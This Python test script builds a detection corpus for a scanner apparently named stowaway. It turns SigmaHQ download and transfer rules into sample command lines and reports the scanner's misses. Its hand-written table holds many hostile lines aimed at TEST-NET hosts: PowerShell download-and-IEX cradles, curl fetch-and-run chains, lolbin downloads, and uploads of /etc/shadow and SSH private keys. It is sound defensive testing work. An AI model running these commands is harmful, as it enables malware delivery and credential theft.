#!/usr/bin/env python3
"""Sigma-mined corpus: command lines built from the detections of SigmaHQ
rules about downloads and transfers, put in the carriers mine.py uses,
scanned by the stowaway binary; prints the misses.

Which rules (local snapshot /work/.mirror/SigmaHQ+sigma, read with `git show`):
rules/windows/process_creation, rules/windows/powershell/*,
rules/linux/process_creation and rules/macos/process_creation rules tagged
attack.t1105, or whose file name names a download, a transfer tool or a
lolbin (see SELECT). Each rule's detection becomes command lines:

  - the program from `Image|endswith` / `Image` / `OriginalFileName`;
  - `CommandLine` (or PowerShell `ScriptBlockText`) values in the order
    startswith, contains (all values of `|contains|all`; for an OR list, one
    case per alternative, at most MAX_ALT), endswith;
  - a TEST-NET URL when the values hold none (a value that is a URL prefix,
    `http`, `https://`, `ftp://`, becomes that URL);
  - the rule's regression event (`regression_data/…/*.json`, a real command
    line recorded by the Sigma team) when there is one, placeholders moved
    to TEST-NET hosts.

Rules whose detection is not a transfer (an upload-less proxy setting, a
user agent alone, a local encode/decode, a remote-desktop tool starting) or
cannot be turned into a command line (only regexes, only a parent process)
are dropped with the reason in DROP or printed as "dropped (no command)".
A few rules whose generated text would be nonsense get a command line
written from their detection by hand (OVERRIDE; the rule's values kept).

    tests/commands/mine/mine_sigma.py [--bin target/debug/stowaway] [--list] [-v]
"""

import argparse
import collections
import json
import os
import re
import shutil
import sys
import tempfile

import yaml

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import mine  # noqa: E402  (carriers, scan, git helpers)

SIGMA = f"{mine.MIRROR}/SigmaHQ+sigma/repo"
DIRS = re.compile(
    r"^rules/(windows/process_creation|windows/powershell/[^/]+|linux/process_creation|macos/process_creation)/[^/]+\.yml$"
)
SELECT = re.compile(
    r"download|cradle|webclient|webrequest|iwr|curl|wget|certutil|bitsadmin|lolbin|tftp|ftp|scp|"
    r"sftp|transfer|upload|exfil|http|remote_file|remote_cab|nscurl|nimgrab|finger|replace|"
    r"printbrm|msiexec_web|gup_|findstr|ldifde|squirrel|msedge|type_arbitrary",
    re.I,
)
URL = "http://198.51.100.23/payload.exe"
MAX_ALT = 4
CMD_FIELDS = ("CommandLine", "ScriptBlockText", "Payload", "ContextInfo")

# Rules judged not to be a transfer (file name -> reason).
DROP = {
    "curl_cookie_hijacking": "reads a browser cookie file, no transfer",
    "curl_custom_user_agent": "a user agent alone, no address",
    "curl_insecure_connection": "an insecure flag alone, no address",
    "curl_insecure_proxy_or_doh": "proxy/DoH settings, no transfer",
    "curl_local_file_read": "file:// read of a local file",
    "curl_ntlm_hash_leak_attempt": "NTLM auth probe, no file moved",
    "susp_curl_useragent": "a user agent alone, no address",
    "certutil_certificate_installation": "installs a certificate",
    "certutil_decode": "local decode",
    "certutil_encode": "local encode",
    "certutil_encode_susp_extensions": "local encode",
    "certutil_encode_susp_location": "local encode",
    "certutil_export_pfx": "local export",
    "certutil_ntlm_coercion": "coerces authentication, no file moved",
    "bitsadmin_potential_persistence": "SetNotifyCmdLine persistence, no transfer",
    "findstr_subfolder_search": "local search",
    "remote_system_discovery": "discovery (arp/ping), no transfer",
    "remote_time_discovery": "net time, no transfer",
    "mstsc_remote_connection": "RDP client start",
    "java_remote_debugging": "debug port",
    "browsers_remote_debugging": "debug port",
    "iis_appcmd_http_logging": "IIS logging settings",
    "susp_add_user_remote_desktop_group": "group membership",
    "susp_remote_desktop_tunneling": "tunnel (plink -L), no file",
    "winrm_remote_powershell_session_process": "parent process only",
    "posh_pc_remote_powershell_session": "remote session, no file",
    "posh_pm_remote_powershell_session": "remote session, no file",
    "posh_ps_remote_session_creation": "remote session, no file",
    "posh_ps_invoke_command_remote": "remote command, no file",
    "sysinternals_psexec_remote_execution": "remote execution, no file",
    "wmic_remote_execution": "remote process, no file",
    "hktl_krbrelay_remote": "Kerberos relay tool",
    "chflags_hidden_flag": "hides a local file",
    "powershell_remotefxvgpudisablement_abuse": "local module abuse",
    "posh_pc_remotefxvgpudisablement_abuse": "local module abuse",
    "posh_pm_remotefxvgpudisablement_abuse": "local module abuse",
    "posh_ps_remotefxvgpudisablement_abuse": "local module abuse",
    "lolbin_gather_network_info": "local discovery",
    "lolbin_susp_driver_installed_by_pnputil": "local driver install",
    "lolbin_susp_grpconv": "local",
    "lolbin_susp_sqldumper_activity": "local memory dump",
    "lolbin_mavinject_process_injection": "local injection",
    "lolbin_ttdinject": "local injection",
    "lolbin_tttracer_mod_load": "local",
    "createdump_lolbin_execution": "local memory dump",
    "dotnet_trace_lolbin_execution": "local",
    "lolbin_manage_bde": "local script run",
    "lolbin_launch_vsdevshell": "local",
    "lolbin_openconsole": "local",
    "lolbin_openwith": "local",
    "lolbin_pcalua": "local program run",
    "lolbin_pcwrun": "local program run",
    "lolbin_pcwrun_follina": "local (ms-msdt argument)",
    "lolbin_pcwutl": "local",
    "lolbin_pester": "local script run",
    "lolbin_pester_1": "local script run",
    "lolbin_rasautou_dll_execution": "local dll",
    "lolbin_register_app": "local",
    "lolbin_runexehelper": "local",
    "lolbin_runscripthelper": "local",
    "lolbin_scriptrunner": "local",
    "lolbin_settingsynchost": "local",
    "lolbin_syncappvpublishingserver_execute_psh": "local",
    "lolbin_syncappvpublishingserver_vbs_execute_psh": "local",
    "lolbin_tracker": "local",
    "lolbin_unregmp2": "local",
    "lolbin_utilityfunctions": "local",
    "lolbin_visual_basic_compiler": "local compile",
    "lolbin_visualuiaverifynative": "local",
    "lolbin_vsiisexelauncher": "local",
    "lolbin_wfc": "local",
    "lolbin_gpscript": "local",
    "lolbin_ie4uinit": "local",
    "lolbin_pubprn": "script: moniker, kept only when remote (covered by regression line)",
    "lolbin_devtoolslauncher": "local",
    "lolbin_mpiexec": "local",
    "lolbin_msdeploy": "local",
    "devinit_lolbin_usage": "msi from URL only via regression line",
    "pressanykey_lolbin_execution": "local",
    "susp_copy_system_dir_lolbin": "local copy",
    "susp_lolbin_exec_from_non_c_drive": "drive letter only",
    "lolbin_diantz_ads": "local ADS",
    "lolbin_extrac32_ads": "local ADS",
    "ftp_arbitrary_command_execution": "ftp -s script runs a local command",
    "sftp_proxy_command_execution": "ProxyCommand runs a local command",
    "lolbin_sftp": "ProxyCommand runs a local command",
    "office_outlook_susp_child_processes_remote": "parent process only",
    "vscode_tunnel_remote_shell_": "tunnel shell, no file",
    "browsers_chromium_headless_exec": "headless browser start, no address",
    "desktopimgdownldr_susp_execution": "parent process only",
    "renamed_curl": "renamed binary (file rule), command line not needed",
    "renamed_ftp": "renamed binary (file rule)",
    "python_http_server_execution": "kept: serving files is an upload (GTFOBins)",
    "7zip_exfil_dmp_files": "local archive of dump files",
    "winrar_exfil_dmp_files": "local archive of dump files",
    "findstr_gpp_passwords": "credential search",
    "findstr_lnk": "local search",
    "findstr_lsass": "local search",
    "findstr_recon_everyone": "local search",
    "findstr_recon_pipe_output": "local search",
    "findstr_security_keyword_lookup": "local search",
    "findstr_sysmon_discovery_via_default_altitude": "local search",
    "cmd_sticky_keys_replace": "local copy",
    "gup_susp_child_process": "parent process only",
    "query_session_exfil": "local output file",
    "audio_exfiltration": "records audio locally",
    "icmp_exfiltration": "ICMP echo payload, no file transfer command",
    "invoke_dnsexfiltration": "DNS tunnel tool by name",
    "powershell_email_exfil": "Exchange address export",
    "squirrel_proxy_execution": "runs a local program",
    "ldifde_export": "local export",
    "lolbin_remote": "remote.exe (WinDbg) runs a local program for a debugging session",
    "ldifde_file_load": "the URL is inside the .ldf file, not on the command line",
    "powershell_download_cradle_obfuscated": "loopback-only sample of an obfuscation",
}
# python_http_server is an upload by the project's decisions: keep it.
DROP.pop("python_http_server_execution")
REMOTE_ACCESS = re.compile(r"remote_access_tools_")

# Hand-built lines for rules whose detection does not assemble into a
# command by itself (their own values, in order).
U = "http://198.51.100.23"
OVERRIDE = {
    "curl_usage": [("sh", f"curl -sO {U}/tools/agent")],
    "download_via_webclient": [
        ("ps", f"$c = New-Object Net.WebClient; $c.DownloadFile('{U}/x.bin', \"$env:TEMP\\x.bin\")"),
    ],
    "finger_execution": [("cmd", "finger user@203.0.113.9 | more +2 | cmd")],
    "pua_nimgrab": [("cmd", f"nimgrab.exe {U}/files/tool C:\\Users\\Public\\tool.exe")],
    "susp_curl_fileupload": [
        ("sh", f"curl --form file=@/etc/passwd {U}/up"),
        ("sh", f"curl --upload-file /var/backups/db.tar {U}/put/db.tar"),
        ("sh", f"curl -X POST --data @/root/.ssh/id_rsa {U}/c"),
        ("sh", f"curl --data-binary @/etc/shadow {U}/x"),
    ],
    "nscurl_usage": [
        ("sh", f"nscurl --download {U}/payload.zip"),
        ("sh", f"nscurl --download-directory /tmp {U}/agent"),
        ("sh", f"nscurl {U}/a.sh --output /tmp/a.sh"),
    ],
    "wget_download_suspicious_directory": [
        ("sh", f"wget {U}/x.elf -P /tmp/"),
        ("sh", f"wget -q -O /dev/shm/k {U}/k"),
    ],
    "python_http_server_execution": [
        ("sh", "python3 -m http.server 8000"),
        ("sh", "python -m SimpleHTTPServer 8080"),
    ],
    "susp_download": [
        ("ps", f"(New-Object System.Net.WebClient).DownloadFile('{U}/a.exe', \"$env:TEMP\\a.exe\")"),
        ("ps", f"$wc = New-Object System.Net.WebClient; $s = $wc.DownloadString('{U}/s.ps1')"),
        ("ps", f"$c = New-Object System.Net.WebClient\n$c.DownloadFileAsync([Uri]'{U}/b.exe', 'C:\\ProgramData\\b.exe')"),
        ("ps", f"(New-Object System.Net.WebClient).DownloadStringAsync('{U}/c.txt')"),
    ],
    "download_com_cradles": [
        ("ps", f"$ie = [Activator]::CreateInstance([Type]::GetTypeFromCLSID('0002DF01-0000-0000-C000-000000000046')); $ie.Navigate('{U}/p.ps1')"),
        ("ps", f"$h = [Activator]::CreateInstance([Type]::GetTypeFromCLSID('F6D90F16-9C73-11D3-B32E-00C04F990BB4')); $h.open('GET','{U}/p.ps1',$false); $h.send(); iex $h.responseText"),
        ("ps", f"$w = [Activator]::CreateInstance([Type]::GetTypeFromCLSID('88d96a0a-f192-11d4-a65f-0040963251e5')); $w.Open('GET','{U}/p.ps1',$false); $w.Send(); IEX $w.ResponseText"),
    ],
    "script_with_upload_capabilities": [
        ("ps", f"Invoke-RestMethod -Uri {U}/up -Method POST -InFile C:\\Users\\Public\\loot.zip"),
        ("ps", f"Invoke-WebRequest -Uri {U}/up/db.bak -Method PUT -InFile .\\db.bak"),
    ],
    "susp_invoke_webrequest_useragent": [
        ("ps", f"Invoke-WebRequest -Uri {U}/a.exe -UserAgent 'Mozilla/5.0' -OutFile a.exe"),
        ("ps", f"iwr {U}/b.ps1 -UserAgent 'x' | iex"),
        ("ps", f"irm -UserAgent 'Go-http-client/1.1' {U}/c.ps1 | iex"),
    ],
    "cmd_curl_download_exec_combo": [
        ("cmd", f"cmd.exe /c curl {U}/a.exe -o %TEMP%\\a.exe & start %TEMP%\\a.exe"),
    ],
    "cmd_type_arbitrary_file_download": [
        ("cmd", "type \\\\203.0.113.9\\share\\evil.exe > C:\\Users\\Public\\evil.exe"),
    ],
    "findstr_download": [
        ("cmd", "findstr /V /L W3AllLov3LolBas \\\\203.0.113.9\\share\\payload.exe > C:\\Users\\Public\\payload.exe"),
    ],
    "hh_chm_remote_download_or_execution": [
        ("cmd", f"hh.exe {U}/help.chm"),
        ("cmd", "HH.exe \\\\203.0.113.9\\share\\help.chm"),
    ],
    "lolbin_diantz_remote_cab": [
        ("cmd", "diantz.exe \\\\203.0.113.9\\share\\p.exe C:\\Users\\Public\\p.cab"),
    ],
    "lolbin_extrac32": [
        ("cmd", "extrac32 /Y /C \\\\203.0.113.9\\share\\p.cab C:\\Users\\Public\\p.exe"),
    ],
    "certreq_download": [
        ("cmd", f"certreq.exe -Post -config {U}/ C:\\Windows\\win.ini out.txt"),
    ],
    "desktopimgdownldr_remote_file_download": [
        ("cmd", f"set \"SYSTEMROOT=C:\\Windows\\Temp\" && cmd /c desktopimgdownldr.exe /lockscreenurl:{U}/p.exe /eventName:desktopimgdownldr"),
    ],
    "susp_ms_appinstaller_download": [
        ("cmd", f"start ms-appinstaller://?source={U}/app.appx"),
    ],
    "print_remote_file_copy": [
        ("cmd", "print /D:C:\\Users\\Public\\p.exe \\\\203.0.113.9\\share\\p.exe"),
    ],
    "schtasks_curl_and_powershell_combo": [
        ("cmd", f"schtasks.exe /create /tn upd /sc minute /tr \"cmd /c curl {U}/u.ps1 -o %TEMP%\\u.ps1 & powershell -ep bypass -f %TEMP%\\u.ps1\""),
    ],
    "regsvr32_http_ip_pattern": [
        ("cmd", f"regsvr32.exe /s /n /u /i:{U}/file.sct scrobj.dll"),
    ],
    "office_arbitrary_cli_download": [
        ("cmd", f"\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" {U}/book.xlsx"),
        ("cmd", f"winword.exe {U}/doc.docx"),
    ],
    "nslookup_poweshell_download": [
        ("cmd", "powershell . (nslookup -q=txt stage.example.org 203.0.113.9)[-1]"),
        ("cmd", "cmd /c \"nslookup -querytype=txt stage.example.org 203.0.113.9 | find \"\"\"\" | powershell -\""),
    ],
    "powershell_download_iex": [
        ("cmd", f"powershell -nop -c \"$s=(New-Object Net.WebClient).DownloadString('{U}/a.ps1');iex $s\""),
        ("cmd", f"powershell.exe -c \"(New-Object Net.WebClient).DownloadString('{U}/a.ps1') | IEX\""),
        ("cmd", f"powershell -c \"(New-Object Net.WebClient).DownloadString('{U}/a.ps1')|IEX\""),
        ("cmd", f"powershell -c \"I`E`X (New-Object Net.WebClient).DownloadString('{U}/a.ps1')\""),
    ],
    "powershell_download_patterns": [
        ("cmd", f"powershell.exe -c \"(new-object net.webclient).downloadstring('{U}/a.ps1')\""),
        ("cmd", f"pwsh -c \"(new-object net.webclient).downloadfile('{U}/a.exe','a.exe')\""),
    ],
    "powershell_susp_download_patterns": [
        ("cmd", f"powershell -w hidden -c \"IEX ((New-Object Net.WebClient).DownloadString('{U}/a.ps1'))\""),
        ("cmd", f"powershell -c \"IEX(New-Object Net.WebClient).DownloadString('{U}/a.ps1')\""),
    ],
    "powershell_download_dll": [
        ("cmd", f"powershell -c \"Invoke-RestMethod {U}/a.dll -OutFile a.dll\""),
        ("cmd", f"powershell -c \"IWR -Uri {U}/b.dll -OutFile $env:TEMP\\b.dll\""),
    ],
    "powershell_download_com_cradles": [
        ("cmd", f"powershell -c \"$h=[Activator]::CreateInstance([Type]::GetTypeFromCLSID('F5078F35-C551-11D3-89B9-0000F81FE221'));$h.open('GET','{U}/p.ps1',$false);$h.send();iex $h.responseText\""),
    ],
    "powershell_comobject_msi_remote": [
        ("cmd", f"powershell -c \"$i = New-Object -ComObject WindowsInstaller.Installer; $i.UILevel = 2; $i.InstallProduct('{U}/p.msi')\""),
    ],
    "powershell_invoke_webrequest_direct_ip": [
        ("cmd", f"powershell -c \"curl {U}/a.exe -OutFile a.exe\""),
        ("cmd", f"powershell.exe iwr -uri {U}/b.ps1 | iex"),
    ],
    "powershell_invoke_webrequest_download": [
        ("cmd", f"powershell -c \"Invoke-WebRequest -Uri {U}/a.exe -OutFile $env:APPDATA\\a.exe\""),
        ("cmd", f"powershell.exe curl -uri {U}/b.exe -o C:\\Users\\Public\\b.exe"),
    ],
    "powershell_download_susp_file_sharing_domains": [
        ("cmd", "powershell -c \"(New-Object Net.WebClient).DownloadString('https://0x0.st/abc.ps1') | iex\""),
        ("cmd", "powershell -c \"iwr https://cdn.discordapp.com/attachments/1/2/a.exe -OutFile a.exe\""),
    ],
    "powershell_webclient_casing": [
        ("cmd", "powershell.exe -enc " + __import__("base64").b64encode(f"(NeW-ObJeCt NeT.wEbClIeNt).DoWnLoAdStRiNg('{U}/a.ps1') | iEx".encode("utf-16-le")).decode()),
    ],
    "susp_data_exfiltration_via_cli": [
        ("cmd", f"powershell -c \"Invoke-RestMethod -Uri {U}/c -Method POST -Body (Get-Content C:\\Users\\Public\\loot.txt)\""),
        ("cmd", f"curl.exe -X POST -d @C:\\Users\\Public\\loot.txt {U}/c"),
        ("cmd", f"wget.exe --post-file=C:\\Users\\Public\\loot.zip {U}/c"),
    ],
    "susp_download_office_domain": [
        ("cmd", "curl.exe https://attachment.outlook.live.net/owa/a/service.svc/s/GetFileAttachment?id=1 -o C:\\Users\\Public\\a.zip"),
        ("cmd", "powershell -c \"iwr https://onenoteonlinesync.onenote.com/onenoteonlinesync/onenote?x=1 -OutFile n.one\""),
    ],
    "bitsadmin_download": [
        ("cmd", f"bitsadmin /create job1 & bitsadmin /addfile job1 {U}/a.exe C:\\Users\\Public\\a.exe & bitsadmin /resume job1"),
        ("cmd", f"bitsadmin.exe /transfer myjob /download /priority high {U}/b.exe %TEMP%\\b.exe"),
    ],
    "certoc_download": [
        ("cmd", f"certoc.exe -GetCACAPS {U}/p.ps1"),
    ],
    "squirrel_download": [
        ("cmd", f"squirrel.exe --download {U}/"),
        ("cmd", f"Update.exe --update={U}/"),
        ("cmd", f"squirrel.exe --updateRollback={U}/"),
    ],
    "mpcmdrun_download_arbitrary_file": [
        ("cmd", f"\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2008.9-0\\MpCmdRun.exe\" -DownloadFile -url {U}/p.exe -path C:\\Users\\Public\\p.exe"),
    ],
    "gup_download": [
        ("cmd", f"GUP.exe -unzipTo C:\\Users\\Public\\ C:\\Users\\Public\\p {U}/p.zip"),
    ],
    "lolbin_printbrm": [
        ("cmd", "PrintBrm -b -d \\\\203.0.113.9\\share\\dir -f C:\\Users\\Public\\p.zip"),
    ],
    "lolbin_replace": [
        ("cmd", "replace.exe \\\\203.0.113.9\\share\\p.exe C:\\Users\\Public\\ /A"),
    ],
    "lolbin_data_exfiltration_by_using_datasvcutil": [
        ("cmd", f"DataSvcUtil /out:C:\\Users\\Public\\loot.txt /uri:{U}/svc"),
    ],

    "susp_obfuscated_ip_download": [
        ("cmd", "powershell -c Invoke-WebRequest -Uri http://0xC6336417/payload.exe -OutFile p.exe"),
        ("cmd", "curl http://3325256727/a.exe -o a.exe"),
    ],
    "curl_wget_exec_tmp": [
        ("sh", "sh -c '/usr/bin/curl -s http://198.51.100.23/x -o /tmp/x && chmod +x /tmp/x && /tmp/x'"),
        ("sh", "sh -c \"/usr/bin/wget -q http://198.51.100.23/y -O /dev/shm/y; sh /dev/shm/y\""),
    ],
    "susp_in_memory_download_and_compile": [
        ("sh", "curl -s http://198.51.100.23/a.c | osascript -e 'do shell script \"cc -x c - -o /tmp/a\"'"),
    ],
    "cmd_http_appdata": [
        ("cmd", "cmd.exe /c curl http://198.51.100.23/a.exe -o %AppData%\\a.exe"),
    ],
}


def detection_parts(det):
    """(image names, [(position, [alternatives] or all-list, is_all)])."""
    images, fields = [], []
    for key, block in det.items():
        if key == "condition" or key.startswith("filter") or not block:
            continue
        blocks = block if isinstance(block, list) else [block]
        blocks = [b for b in blocks if isinstance(b, dict)]
        if not blocks:
            continue
        # An OR of maps: prefer one that names a program or a command value.
        for b in blocks:
            for k, v in b.items():
                name, _, mods = k.partition("|")
                vals = [str(x) for x in (v if isinstance(v, list) else [v]) if x is not None]
                if name in ("Image", "OriginalFileName", "NewProcessName"):
                    images.extend(vals)
                elif name in CMD_FIELDS and "re" not in mods.split("|") and vals:
                    pos = "start" if "startswith" in mods else "end" if "endswith" in mods else "mid"
                    fields.append((pos, vals, "all" in mods.split("|")))
            if any(k.partition("|")[0] in CMD_FIELDS for k in b):
                break
    return images, fields


def prog_name(images):
    for i in images:
        base = re.split(r"[\\/]", i)[-1].strip()
        if base and "*" not in base:
            return base
    return None


def url_like(piece):
    p = piece.strip().lower()
    return p in ("http", "https", "http:", "https:", "://", "http://", "https://", "ftp://", "ftp") or p == "http://%"


def classify(piece):
    """What a detection value stands for in a command line."""
    p = piece.strip()
    low = p.lower()
    if url_like(p) or re.fullmatch(r"(https?)?://\d", low):
        return "url"
    if re.fullmatch(r"\.[a-z0-9]{1,5}['\"]?", low):
        return "ext"
    if re.fullmatch(r"\.?[a-z0-9-]+(\.[a-z0-9-]+)+", low) and not low.endswith((".exe", ".dll")):
        return "host"
    if re.fullmatch(r"(:\\|\\|%)[A-Za-z\\ %]+\\?", p) or low in ("%temp%", "%tmp%", "%appdata%", "%public%") \
            or low.startswith(("/tmp", "/dev/shm", "/var/tmp")):
        return "dir"
    return "word"


def output_path(d):
    d = d.strip()
    if d.startswith("/"):
        return d.rstrip("/") + "/payload"
    if d.startswith(":"):
        d = "C" + d
    elif d.startswith("\\"):
        d = "C:\\Users\\user" + d
    return d.rstrip("\\") + "\\payload.bin"


def assemble(prog, fields, choice):
    """One command line: `choice` picks the alternative of the widest OR field."""
    widest = max((i for i, f in enumerate(fields) if not f[2]), key=lambda i: len(fields[i][1]), default=None)
    picked = []
    for i, (pos, vals, is_all) in enumerate(fields):
        for v in vals if is_all else [vals[choice if i == widest and choice < len(vals) else 0]]:
            picked.append((pos, v))
    picked.sort(key=lambda pv: {"start": 0, "mid": 1, "end": 2}[pv[0]])
    host, ext, words, outs = "198.51.100.23", "", [], []
    for _, v in picked:
        kind = classify(v)
        if kind == "url":
            continue
        if kind == "ext":
            ext = v.strip().strip("'\"")
        elif kind == "host":
            host = v.strip().lstrip(".")
            host = "raw" + "." + host if host.count(".") == 1 and host.startswith("githubusercontent") else host
        elif kind == "dir":
            outs.append(output_path(v))
        else:
            w = v.strip()
            if v.endswith(" ") and re.fullmatch(r"[A-Za-z]+", w) and w.lower() != (prog or "").lower().removesuffix(".exe"):
                w = "-" + w
            if w and not any(w.lower() in x.lower() for x in words):
                words.append(w)
    url = f"http://{host}/files/update{ext}"
    text = " ".join(words)
    if prog and prog.lower().removesuffix(".exe") not in text.lower():
        text = f"{prog} {text}"
    text = f"{text} {url}" if "://" not in text and "\\\\" not in text else text
    flag = {"wget": "-O ", "curl": "-o "}.get((prog or "").lower().removesuffix(".exe"), "")
    for o in outs:
        text = f"{text} {flag}{o}"
    return re.sub(r"\s+", " ", text).strip()


def lang_of(path):
    if "/powershell/" in path:
        return "ps"
    if path.startswith("rules/windows/"):
        return "cmd"
    return "sh"


def regression_lines(path, files):
    base = os.path.basename(path)[:-4]
    folder = "regression_data/" + os.path.dirname(path) + "/" + base
    out = []
    for f in files:
        if f.startswith(folder + "/") and f.endswith(".json"):
            try:
                doc = json.loads(mine.git_show(SIGMA, f))
            except (ValueError, OSError):
                continue
            data = (doc.get("Event") or {}).get("EventData") or {}
            for k in ("CommandLine", "ScriptBlockText"):
                if data.get(k):
                    out.append(mine.to_testnet(str(data[k])))
    return out


def sigma_cases():
    files = mine.git_files(SIGMA)
    dropped = collections.Counter()
    for f in files:
        if not DIRS.match(f):
            continue
        text = mine.git_show(SIGMA, f)
        base = os.path.basename(f)[:-4]
        short = re.sub(r"^(proc_creation_(win|lnx|macos)_|posh_(ps|pm|pc)_)", "", base)
        if "attack.t1105" not in text and not SELECT.search(short):
            continue
        if short in DROP or base in DROP or REMOTE_ACCESS.match(short):
            dropped["judged not a transfer"] += 1
            continue
        doc = yaml.safe_load(text)
        lang = lang_of(f)
        lines = list(OVERRIDE.get(short, []))
        if not lines:
            images, fields = detection_parts(doc.get("detection") or {})
            if not fields:
                dropped["no command-line values (image/parent/regex only)"] += 1
                print(f"dropped (no command): {short}", file=sys.stderr)
                continue
            prog = prog_name(images)
            widest = max((len(v) for _, v, a in fields if not a), default=1)
            seen = set()
            for choice in range(min(widest, MAX_ALT)):
                line = assemble(prog, fields, choice)
                if line not in seen:
                    seen.add(line)
                    lines.append((lang, line))
        for line in regression_lines(f, files):
            if not re.search(r"://|\\\\|@|\b\d{1,3}(\.\d{1,3}){3}\b", line):
                dropped["regression lines (not rules) naming no remote, e.g. a bare `finger`"] += 1
                continue
            lines.append((lang if "/powershell/" in f else "cmd" if f.startswith("rules/windows/") else "sh", line))
        for i, (lg, line) in enumerate(lines):
            yield "sigma", f"sigma-{short}-{i + 1}", f"Sigma {short} #{i + 1}", lg, line
    for why, n in dropped.items():
        print(f"dropped {n} rules: {why}", file=sys.stderr)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--bin", default="target/release/stowaway")
    ap.add_argument("--list", action="store_true", help="print the command lines, do not scan")
    ap.add_argument("-v", action="store_true", help="print each missed file's content")
    args = ap.parse_args()
    raw = list(sigma_cases())
    if args.list:
        for _, cid, _, lang, line in raw:
            print(f"{cid} [{lang}] {line}")
        print(f"{len(raw)} command lines", file=sys.stderr)
        return 0
    cases, seen = [], set()
    for group, cid, source, lang, cmd in raw:
        cid = re.sub(r"[^A-Za-z0-9._-]", "_", cid)
        for carrier, path, mode, content in mine.carriers(cid, lang, cmd):
            if path not in seen:
                seen.add(path)
                cases.append(dict(group=group, id=cid, source=source, path=path,
                                  mode=mode, content=content, carrier=carrier))
    root = tempfile.mkdtemp(prefix="stowaway-sigma-")
    try:
        for c in cases:
            p = os.path.join(root, "tree", c["path"].lstrip("/"))
            os.makedirs(os.path.dirname(p), exist_ok=True)
            with open(p, "w", newline="") as fh:
                fh.write(c["content"])
            os.chmod(p, c["mode"])
        hit = mine.scan(args.bin, root)
    finally:
        shutil.rmtree(root, ignore_errors=True)
    by_carrier = collections.defaultdict(lambda: [0, 0])
    missed_lines = set()
    for c in cases:
        ok = c["path"] in hit
        by_carrier[c["carrier"]][0] += ok
        by_carrier[c["carrier"]][1] += 1
        if not ok:
            print(f"MISS {c['path']}  [{c['source']}]")
            missed_lines.add(c["id"])
            if args.v:
                print("    " + c["content"].rstrip("\n").replace("\n", "\n    "))
    for k in sorted(by_carrier):
        print(f"carrier {k}: {by_carrier[k][0]}/{by_carrier[k][1]}")
    found = sum(v[0] for v in by_carrier.values())
    total = sum(v[1] for v in by_carrier.values())
    print(f"command lines: {len(raw) - len(missed_lines)}/{len(raw)} detected in every carrier")
    print(f"sigma corpus: {found}/{total} detected ({100.0 * found / max(total, 1):.1f}%), {total - found} misses")
    return 0


if __name__ == "__main__":
    sys.exit(main())
